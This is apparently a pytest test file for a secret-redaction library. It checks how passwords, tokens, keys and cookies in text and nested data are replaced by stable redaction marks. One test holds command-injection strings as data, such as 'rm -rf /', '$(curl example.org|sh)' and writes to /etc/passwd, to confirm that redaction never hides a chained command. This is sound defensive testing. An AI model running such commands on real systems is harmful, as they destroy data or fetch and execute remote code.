"""Secrets in text and in nested data: by name, by value, and what stands in their place."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import threading
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callsheet.redaction.redactor import (
    InvalidRule,
    Marks,
    Redactor,
    default_rules,
    secrets_of,
    secrets_of_mcp,
)  # fmt: skip
from callsheet.redaction.rules import fill
from callsheet.redaction.secret_names import family_of
from tests.support import strategies as some
from tests.support.redaction import CLEAN, SHAPES

ALL = Redactor()
TOKEN = fill("ghp_{alnum:36}")
OTHER = fill("ghp_{alnum:35}X")


def own(**kwargs: Any) -> Redactor:
    return Redactor(marks=Marks(), **kwargs)


# --- names


TELLING = {
    "password": "password", "PASSWORD": "password", "dbPassword": "password", "db_pass": "password", "passwd": "password",
    "api_key": "api-key", "apiKey": "api-key", "APIKey": "api-key", "API_KEY": "api-key", "x-api-key": "api-key",
    "X-Api-Key": "api-key", "apikey": "api-key", "Api Key": "api-key", "token": "token", "accessToken": "token",
    "GITHUB_TOKEN": "token", "authtoken": "token", "refresh_token": "token", "token2": "token", "TOKEN_PROD": "token",
    "client_secret": "secret", "SECRET_KEY": "secret", "aws.secretAccessKey": "secret", "Authorization": "authorization",
    "proxy-authorization": "authorization", "Cookie": "cookie", "set-cookie": "cookie", "credentials": "credential",
    "privateKey": "private-key", "passphrase": "password", "PGPASSWORD": "password", "_authToken": "token",
    "reset_password_token": "token", "passwordOld": "password",
}  # fmt: skip
HARMLESS = [
    "token_count", "max_tokens", "tokens", "tokenizer", "secretary", "secretName", "password_file", "passwordless", "key",
    "keys", "public_key", "primary_key", "monkey", "keyboard", "nextPageToken", "page_token", "stop_token", "token_type",
    "has_password", "PWD", "OLDPWD", "pass", "passed", "author", "authority", "sessionId", "toolCallId", "path", "", "x" * 500,
    "cookiecutter", "forgot_password", "token_endpoint", "accessKeyId", "bypass",
]  # fmt: skip


@pytest.mark.parametrize("name", TELLING)
def test_a_secret_name_is_known_in_any_case_and_style(name: str) -> None:
    assert family_of(name) == TELLING[name]
    clean, count = own().value({"a": [{name: "Some value 42"}]})
    assert (clean["a"][0][name].startswith("[redacted:"), count) == (True, 1)


@pytest.mark.parametrize("name", HARMLESS)
def test_a_name_that_only_looks_secret_is_not(name: str) -> None:
    assert family_of(name) == ""
    value = {"a": [{name: "Some value 42"}]}
    assert ALL.value(value)[0] is value


@pytest.mark.parametrize(
    "value",
    [
        None,
        True,
        False,
        5,
        1.5,
        "",
        "null",
        "***",
        "$TOKEN",
        "${{ secrets.TOKEN }}",
        "<token>",
        "{token}",
        "[redacted:token]",
    ],
)
def test_what_stands_for_a_secret_is_none(value: Any) -> None:
    data = {"token": value}
    assert ALL.value(data)[0] is data


# --- nested data


def test_names_and_texts_are_looked_at_in_nested_data() -> None:
    value = {
        "headers": {"Authorization": "Bearer abcdef", "Accept": "*/*"},
        "items": [{"password": "hunter2"}, f"git clone https://{TOKEN}@github.com/x", 5, None],
        "note": "nothing",
    }
    clean, count = own().value(value)
    assert count == 3
    assert clean == {
        "headers": {"Authorization": "Bearer [redacted:authorization]", "Accept": "*/*"},
        "items": [
            {"password": "[redacted:password]"},
            "git clone https://[redacted:github-token]@github.com/x", 5, None,
        ],
        "note": "nothing",
    }  # fmt: skip
    assert clean["items"] is not value["items"]
    assert value["headers"]["Authorization"] == "Bearer abcdef"


def test_what_is_clean_comes_back_as_the_same_object() -> None:
    value = {
        "path": "/a/b.py",
        "limit": 3,
        "nested": [{"a": "text"}, ["-v", "--quiet"]],
        "token_count": 7,
    }
    assert ALL.value(value)[0] is value
    text = "".join(["plain", " ", "text"])
    assert ALL.text(text)[0] is text
    assert ALL.value(text)[0] is text


def test_clean_parts_of_changed_data_stay_the_same_objects() -> None:
    value = {"clean": {"a": [1, 2]}, "password": "hunter2"}
    assert own().value(value)[0]["clean"] is value["clean"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ([{"name": "API_KEY", "value": "x1"}], [{"name": "API_KEY", "value": "[redacted:api-key]"}]),
        ({"name": "LANG", "value": "C"}, {"name": "LANG", "value": "C"}),
        (["tool", "--password", "x1"], ["tool", "--password", "[redacted:password]"]),
        (["tool", "--password=x1"], ["tool", "--password=[redacted:password]"]),
        (["curl", "-u", "me:x1", "-v"], ["curl", "-u", "me:[redacted:password]", "-v"]),
        (["/usr/bin/sshpass", "-p", "x1", "ssh"], ["/usr/bin/sshpass", "-p", "[redacted:password]", "ssh"]),
        (["mkdir", "-p", "x1"], ["mkdir", "-p", "x1"]),
        ({"secrets": {"A": "x1", "B": ["y2"]}}, {"secrets": {"A": "[redacted:secret]", "B": ["[redacted:secret#2]"]}}),
        ({"password": 12345678}, {"password": "[redacted:password]"}),
        ({"token": {"type": "name", "value": "x"}}, {"token": {"type": "name", "value": "x"}}),
        ({TOKEN: 1}, {"[redacted:github-token]": 1}),
        ({"cookies": ["sid=1"]}, {"cookies": ["[redacted:cookie]"]}),
        (TOKEN, "[redacted:github-token]"), (5, 5), (None, None), ([], []), ({}, {}),
    ],
)  # fmt: skip
def test_data_that_pairs_names_and_values_in_other_ways(value: Any, expected: Any) -> None:
    assert own().value(value)[0] == expected


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("<password>aB3dE6gH9}</password>", "<password>[redacted:password]</password>"),
        ("<password>aB3,x=dE6gH9</password>", "<password>[redacted:password]</password>"),
        ("<apiKey>aB3dE6gH9jK2],</apiKey>", "<apiKey>[redacted:api-key]</apiKey>"),
        ('{"name": "API_KEY", "value": "aB3dE6gH9jK2', '{"name": "API_KEY", "value": "[redacted:api-key]'),
        ('{"name": "API_KEY", "value": "aB3dE6gH9jK2\n', '{"name": "API_KEY", "value": "[redacted:api-key]\n'),
        ('put("api_key", "aB3dE6gH9jK2mN5pQ8")', 'put("api_key", "[redacted:api-key]")'),
        ("set API_TOKEN aB3dE6gH9jK2mN5pQ8(", "set API_TOKEN [redacted:token]("),
        ("api_key: |\n  aB3dE6gH9jK2mN5pQ8\n", "api_key: |\n  [redacted:api-key]\n"),
    ],
)  # fmt: skip
def test_a_value_that_stands_further_off_from_its_name_is_found_whole(
    text: str, clean: str
) -> None:
    assert own().text(text)[0] == clean


# --- known values


def test_a_known_value_is_found_wherever_it_stands_and_named() -> None:
    redactor = own(known={"DEPLOY_KEY": "zq9 zq9/zq9"})
    assert redactor.text("a zq9 zq9/zq9b")[0] == "a [redacted:DEPLOY_KEY]b"
    assert redactor.value({"x": ["zq9 zq9/zq9"]}) == ({"x": ["[redacted:DEPLOY_KEY]"]}, 1)


@pytest.mark.parametrize(
    "form",
    [
        lambda s: json.dumps({"a": s}), lambda s: json.dumps(s, ensure_ascii=False), lambda s: quote(s, safe=""), quote,
        lambda s: base64.b64encode(s.encode()).decode(), lambda s: base64.urlsafe_b64encode(s.encode()).decode(),
        lambda s: base64.b64encode(b"user:" + s.encode()).decode(),
        lambda s: base64.b64encode(b"me:" + s.encode() + b"\n").decode(),
        lambda s: base64.b64encode(b"x:" + s.encode() + b"12").decode(),
    ],
)  # fmt: skip
def test_a_known_value_is_found_in_other_forms(form: Any) -> None:
    for secret in ('qu"ote\\ and é?>~', "plain-zq9-zq9-zq9", "line\nline zq9"):
        redactor = own(known=[secret])
        text = f"see {form(secret)} there"
        clean, count = redactor.text(text)
        assert count == 1
        assert "[redacted:known]" in clean
        assert clean.startswith("see ")
        assert clean.endswith(" there")
        assert len(clean) <= len("see ") + len("[redacted:known]") + len(" there") + 16


def test_values_can_be_registered_later() -> None:
    redactor = own()
    text = "".join(["the word is ", "xyzzy-plugh"])
    assert redactor.text(text) == (text, 0)
    redactor.register({"magic word": "xyzzy-plugh"})
    assert redactor.text(text) == ("the word is [redacted:magic-word]", 1)


def test_values_that_would_blank_out_words_are_refused() -> None:
    with pytest.raises(InvalidRule, match="ordinary words"):
        own(known=["abc"])
    with pytest.raises(InvalidRule, match="known: one text"):
        own(known="secret")


def test_a_very_long_known_value_is_found() -> None:
    secret = "".join(f"{n:x}-" for n in range(3000))
    clean, count = own(known=[secret]).text(f"<{secret}>")
    assert count >= 1
    assert len(clean) < 100


def test_secrets_of_an_environment() -> None:
    environ = {
        "GITHUB_TOKEN": "abcdef123456", "DB_PASSWORD": "hunter2hunter2", "PATH": "/usr/bin", "PWD": "/home/me/x1",
        "SSH_AUTH_SOCK": "/tmp/agent.123", "TOKEN": "short", "API_KEY": "", "SECRET_FILE": "/run/secrets/x",
        "MY_SECRET": "/run/secrets/path", "TOKENIZERS_PARALLELISM": "false123", "ACCESS_KEY": "12345678901",
        "DATABASE_URL": "postgres://me:s3cr%2Ft-word@db/app", "HOMEPAGE": "https://example.org/", "EMPTY_TOKEN": "none",
        "CI_JOB_TOKEN": "$OTHER_TOKEN_X", "BAD_URL": "http://[x:y",
    }  # fmt: skip
    assert secrets_of(environ) == {
        "GITHUB_TOKEN": "abcdef123456", "DB_PASSWORD": "hunter2hunter2", "DATABASE_URL": "s3cr/t-word",
    }  # fmt: skip


def test_secrets_of_mcp_servers() -> None:
    servers: list[dict[str, Any]] = [
        {"name": "a", "command": "x", "env": [{"name": "API_KEY", "value": "abcdef123456"}, {"name": "LANG", "value": "C.UTF-8"}]},
        {"name": "b", "url": "https://x", "headers": [{"name": "Authorization", "value": "Bearer zyxwvu987654"}]},
        {"name": "c", "env": {"DB": "postgres://me:longpassword1@db"}, "headers": {"X-Auth-Token": "tok-tok-tok-1"}},
        {"name": "d", "env": None, "headers": [{"odd": 1}]}, {"name": "e"},
    ]  # fmt: skip
    assert secrets_of_mcp(servers) == {
        "API_KEY": "abcdef123456", "Authorization": "zyxwvu987654", "DB": "longpassword1", "X-Auth-Token": "tok-tok-tok-1",
    }  # fmt: skip


# --- marks


def test_the_same_secret_has_the_same_mark_and_another_has_another() -> None:
    redactor = own(known={"ENV_TOKEN": "other-known-thing"})
    text = f"{TOKEN} {OTHER} {TOKEN}"
    first, second = "[redacted:github-token]", "[redacted:github-token#2]"
    assert redactor.text(text) == (f"{first} {second} {first}", 3)
    # By another way, in another field, in a stream, in another session: the same mark.
    assert redactor.text(f"GITHUB_TOKEN={OTHER}")[0] == f"GITHUB_TOKEN={second}"
    assert redactor.value({"token": OTHER, "b": [OTHER]})[0] == {"token": second, "b": [second]}
    stream = redactor.stream()
    assert stream.feed(OTHER.encode()) + stream.finish() == second.encode()


def test_redactors_of_one_process_share_marks() -> None:
    secret = "password=" + "shared1between2"
    assert Redactor().text(secret) == Redactor(known=["other-known-thing"]).text(secret)


def test_a_secret_that_is_known_and_matches_a_rule_has_one_mark() -> None:
    redactor = own(known={"GITHUB_TOKEN": TOKEN})
    assert redactor.text(f"token={TOKEN} {TOKEN}")[0].count("[redacted:GITHUB_TOKEN]") == 2
    encoded = base64.b64encode(TOKEN.encode()).decode()
    assert "[redacted:GITHUB_TOKEN]" in redactor.text(encoded)[0]


def test_marks_hold_nothing_of_the_secret() -> None:
    code = (
        "from callsheet.redaction.redactor import Redactor;"
        "print(Redactor().text('password=aaaa1111 password=bbbb2222')[0])"
    )
    runs = {
        subprocess.run(
            [sys.executable, "-c", code], capture_output=True, text=True, check=True
        ).stdout
        for _ in range(2)
    }
    assert runs == {"password=[redacted:password] password=[redacted:password#2]\n"}


def test_marks_are_bounded_and_stay_the_same() -> None:
    marks = Marks(limit=3)
    given_out = [marks.mark("r", bytes([n]) * 9) for n in range(6)]
    assert given_out[3:] == [b"[redacted:r#more]"] * 3
    assert [marks.mark("r", bytes([n]) * 9) for n in range(6)] == given_out


def test_marks_can_be_asked_for_from_many_threads() -> None:
    marks, found = Marks(), []

    def ask() -> None:
        found.append([marks.mark("r", b"%d" % n) for n in range(300)])

    threads = [threading.Thread(target=ask) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len({tuple(marks) for marks in found}) == 1
    assert len(set(found[0])) == 300


def test_a_redactor_can_be_used_from_many_threads() -> None:
    text, found = f"{'clean words ' * 400}{TOKEN}", []

    def work() -> None:
        found.extend(ALL.text(text)[1] + ALL.text("clean " * 500)[1] for _ in range(200))

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert found == [1] * 800


fragments = st.one_of(
    st.sampled_from([shape.text for shape in SHAPES] + CLEAN),
    st.sampled_from(
        ["[redacted:token]", "[redacted:x#2]", "[redacted:", "]", "password=", "token: ", '"', "'", "\\", "\n", " ", "=", ":",
         "://", "@", "--password ", "Bearer ", "zq9zq9zq9", "\x1b[31m", "é", "\0", "ghp_", "key", "{", "}", ",", "-----BEGIN"]
    ),
    st.text(max_size=8),
)  # fmt: skip
texts = st.lists(fragments, max_size=8).map("".join)
KNOWING = Redactor(known={"ZQ": "zq9zq9zq9", "WORD": "redacted:x"})


@given(texts)
def test_redacting_twice_changes_nothing(text: str) -> None:
    clean, count = KNOWING.text(text)
    assert KNOWING.text(clean) == (clean, 0)
    assert (count == 0) == (clean is text)


@given(some.json_values)
def test_redacting_data_twice_changes_nothing(value: Any) -> None:
    wrapped = {"a": value, "password": "hunter2"}
    clean, count = ALL.value(wrapped)
    assert count >= 1
    assert ALL.value(clean)[0] is clean
    json.dumps(clean)


@given(st.text(st.characters(), max_size=40))
def test_any_text_is_taken_lone_surrogates_too(text: str) -> None:
    clean, count = own().text(f"{text}\npassword=hunter22\n{text}")
    assert count >= 1
    assert "hunter22" not in clean


def test_text_beside_a_secret_keeps_every_character() -> None:
    clean, _ = own().text("\ud800é password=hunter22 \udfff漢")
    assert clean == "\ud800é password=[redacted:password] \udfff漢"


# --- allow-list and size


def test_what_is_allowed_stays() -> None:
    redactor = own(allow=[TOKEN, "re:hunter[0-9]"])
    text = f"GITHUB_TOKEN={TOKEN} password=hunter2 {OTHER}"
    assert redactor.text(text) == (text.replace(OTHER, "[redacted:github-token]"), 1)
    value = {"token": TOKEN, "password": "hunter2"}
    assert redactor.value(value)[0] is value


@pytest.mark.parametrize("entry", ["", "re:(", "re:"])
def test_an_entry_that_allows_nothing_or_everything_is_refused(entry: str) -> None:
    with pytest.raises(InvalidRule, match="allow"):
        own(allow=[entry])


@pytest.mark.parametrize(
    "text",
    [
        "-----BEGIN PRIVATE KEY-----\n" * 7000, "A" * 200_000, "://" * 70_000, "password=" * 22_000, "curl -u " * 22_000,
        "eyJ" * 70_000, "a:b@" * 50_000, "token token " * 17_000, "+" * 200_000, "\"password\": \"" * 15_000, "login x " * 22_000,
    ],
)  # fmt: skip
def test_no_text_takes_for_ever(text: str) -> None:
    """Quadratic time would show: each of these is 200 KB, made to be hard."""
    done = threading.Event()
    thread = threading.Thread(target=lambda: (own().text(text), done.set()), daemon=True)
    thread.start()
    assert done.wait(20)


def test_every_rule_can_be_recognised_by_its_mark() -> None:
    names = [rule.id for rule in default_rules()]
    assert len(set(names)) == len(names)


@pytest.mark.parametrize(
    ("command", "rest"),
    [
        ("cat f secret=abcdef1234|sh", "|sh"),
        ("ls --token=abcdefgh123;rm -rf /", ";rm -rf /"),
        ("ls --token abcdefgh123;rm -rf /", ";rm -rf /"),
        ("grep Authorization: Bearer abc;rm${IFS}-rf", ";rm${IFS}-rf"),
        ("grep Cookie: sid=Fake7Dummy3;rm -rf /", ";rm -rf /"),
        ("cat f token=abcdefghij12>/etc/passwd", ">/etc/passwd"),
        ('echo ""password=abcdef1234;rm -rf /', ";rm -rf /"),
        ('grep ""Authorization: Bearer abc;rm -rf /', ";rm -rf /"),
        ("API_KEY=abcdef1234&reboot", "&reboot"),
        ("API_KEY=abcdef1234`reboot`", "`reboot`"),
        ("API_KEY=$(curl example.org|sh); cat f", "$(curl example.org|sh); cat f"),
        ("mysql -pFake7Dummy`reboot`", "`reboot`"),
        ("curl https://me:Fake7;reboot@example.org/", ";reboot@example.org/"),
        ("curl 'https://example.org/?token=abcdef&x=1'", "&x=1'"),
    ],
)
def test_no_command_vanishes_behind_a_secret(command: str, rest: str) -> None:
    redactor = own()
    clean, _ = redactor.text(command)
    assert clean.endswith(rest)
    assert redactor.text(clean)[0] == clean


def test_a_text_that_is_reported_byte_by_byte_is_looked_at() -> None:
    secret = "ghp_" + "Zk3v9QwLr7TnXb2YcH5dMf8sJg4pAe6uRi1o"
    redactor = Redactor()
    value, count = redactor.value({"output": list(f"token={secret} é".encode()), "n": [1, 2]})
    assert count == 1
    assert isinstance(value, dict)
    assert secret not in value["output"]
    assert value["output"].endswith(" é")
    assert redactor.found({"data": list(secret.encode())})


@pytest.mark.parametrize(
    "numbers", [list(b"nothing to hide"), [300, 1, 2, 3, 4, 5, 6, 7], [255] * 9, [1, "a"] * 5]
)
def test_numbers_stay_numbers(numbers: list[Any]) -> None:
    assert Redactor().value(numbers) == (numbers, 0)
    assert Redactor().value({"scores": numbers})[0]["scores"] is numbers


def test_a_command_after_an_escaped_line_end_is_shown() -> None:
    for text in ("password: |\n evil_9 arg", "password: |\r\n evil_9 arg"):
        for value in ({"command": text}, {"arguments": json.dumps({"command": text})}):
            assert "evil_9 arg" in str(Redactor().value(value, runs=True)[0])
